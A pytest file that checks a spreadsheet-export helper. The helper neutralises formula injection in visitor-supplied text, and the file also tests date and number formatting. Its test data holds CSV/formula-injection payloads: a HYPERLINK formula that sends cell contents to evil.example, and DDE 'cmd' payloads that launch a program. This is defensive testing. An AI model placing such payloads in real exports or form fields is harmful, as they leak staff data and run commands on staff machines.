"""Whatever a visitor typed reaches staff's spreadsheets as text: the shared cell neutraliser of every export."""

import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from centers.common.spreadsheets import append_text_row, csv_text, neutral_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&E4&E5&E6,"Подробнее")',
    "+7 900 000-00-00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(value):
    assert neutral_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Иванова Анна", "a=b", "", 5, -3, None, "Школа № 5 — 1+1"])
def test_other_values_stay_as_they_are(value):
    assert neutral_cell(value) == value


def saved_and_read_back(rows):
    workbook = openpyxl.Workbook()
    for row in rows:
        append_text_row(workbook.active, row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue(), openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active


def test_the_csv_and_the_xlsx_carry_formula_text_as_text_without_a_visible_apostrophe():
    rows = [["Имя", "Телефон"], [HOSTILE[0], HOSTILE[1]], ["Число", 7], [HOSTILE[2], HOSTILE[3]]]
    text = csv_text(rows)
    assert text.startswith("\ufeffИмя;Телефон")
    assert "\n'=HYPERLINK(" in text.replace('"', "")
    body, sheet = saved_and_read_back(rows)
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == HOSTILE[0]
    assert sheet["B2"].data_type == "s" and sheet["B2"].value == "+7 900 000-00-00"
    assert sheet["A4"].value == HOSTILE[2] and sheet["B4"].value == HOSTILE[3]
    # Inert: stored as strings with Excel's "quote prefix" (text even when the cell is edited), no formula at all.
    assert all(sheet[name].quotePrefix for name in ("A2", "B2", "A4", "B4"))
    assert not sheet["A1"].quotePrefix
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml")
    assert sheet["B3"].data_type == "n" and sheet["B3"].value == 7


def test_xlsx_dates_are_dates_in_the_site_time_zone_and_fractions_are_numbers(settings):
    settings.TIME_ZONE = "Asia/Yekaterinburg"
    moment = datetime.datetime(2026, 3, 14, 4, 30, tzinfo=datetime.UTC)  # 09:30 in Yekaterinburg
    _body, sheet = saved_and_read_back([[moment, datetime.date(2026, 5, 7), Decimal("4.7"), "4,7"]])
    assert sheet["A1"].value == datetime.datetime(2026, 3, 14, 9, 30)
    assert sheet["A1"].is_date and sheet["A1"].number_format == "DD.MM.YYYY HH:MM"
    assert sheet["B1"].value == datetime.datetime(2026, 5, 7) and sheet["B1"].number_format == "DD.MM.YYYY"
    assert sheet["C1"].data_type == "n" and sheet["C1"].value == 4.7 and sheet["C1"].number_format == "0.0"
    assert sheet["D1"].data_type == "s"
    assert csv_text([[moment, datetime.date(2026, 5, 7)]]) == "\ufeff14.03.2026 09:30;07.05.2026\r\n"
